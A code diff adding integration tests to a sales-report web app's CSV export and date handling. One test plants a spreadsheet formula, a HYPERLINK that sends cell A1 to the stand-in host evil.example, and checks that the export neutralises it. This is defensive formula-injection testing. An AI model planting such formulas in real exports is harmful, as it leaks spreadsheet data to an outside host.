@@ -8,6 +8,8 @@ import org.jsoup.nodes.Document;
 import org.jsoup.nodes.Element;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 import java.math.BigDecimal;
 import java.net.http.HttpResponse;
@@ -120,6 +122,39 @@ class SalesReportHttpIT {
         String lastLine = body.strip().substring(body.strip().lastIndexOf('\n') + 1);
         assertTrue(lastLine.startsWith("Total;;;;" + rupiahValue(page.getElementById("report-total").text()) + ";"
                 + rupiahValue(page.getElementById("report-profit").text()) + ";"), lastLine);
+    }
+
+    @Test
+    void aVoidReasonThatLooksLikeAFormulaReachesExcelAsText() throws SQLException {
+        String saleId = sell("1");
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")";
+        admin.get("/laporan/keluar");
+        assertEquals(302, admin.post("/laporan/keluar/batal", Map.of("id", saleId, "reason", formula)).statusCode());
+        String receipt = ItServer.query("SELECT receipt_no FROM sale WHERE id = '" + saleId + "'");
+        String line = admin.get("/laporan/keluar/csv").body().lines().filter(l -> l.startsWith(receipt)).findFirst()
+                .orElseThrow();
+        assertTrue(line.endsWith(";\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klik\"\")\""), line);
+        for (String start : new String[] {"+", "-", "@"}) {
+            String other = sell("1");
+            admin.post("/laporan/keluar/batal", Map.of("id", other, "reason", start + "1+1"));
+            String otherReceipt = ItServer.query("SELECT receipt_no FROM sale WHERE id = '" + other + "'");
+            String otherLine = admin.get("/laporan/keluar/csv").body().lines()
+                    .filter(l -> l.startsWith(otherReceipt)).findFirst().orElseThrow();
+            assertTrue(otherLine.matches(".*;\"?'" + java.util.regex.Pattern.quote(start) + "1\\+1\"?"), otherLine);
+        }
+    }
+
+    @ParameterizedTest(name = "{0}?{1} answers with a message, not an error")
+    @CsvSource({"/laporan/keluar, dari=+999999999-12-31", "/laporan/keluar, sampai=-999999999-01-01",
+            "/laporan/keluar, dari=1899-12-31", "/laporan/keluar, dari=2026-02-30", "/laporan/masuk, dari=+999999999-12-31",
+            "/laporan/masuk, sampai=9999-12-31"})
+    void aDateOutsideTheYearsOfReportsIsSaidNotFailed(String path, String query) {
+        HttpResponse<String> page = admin.get(path + "?" + query.replace("+", "%2B"));
+        assertEquals(200, page.statusCode(), page.body());
+        assertNotNull(WebSession.html(page).getElementById("date-error"), "the page says so");
+        HttpResponse<String> csv = admin.get(path + "/csv?" + query.replace("+", "%2B"));
+        assertEquals(400, csv.statusCode());
+        assertTrue(csv.body().contains("Tanggal tidak dikenali"), csv.body());
     }
 
     @Test
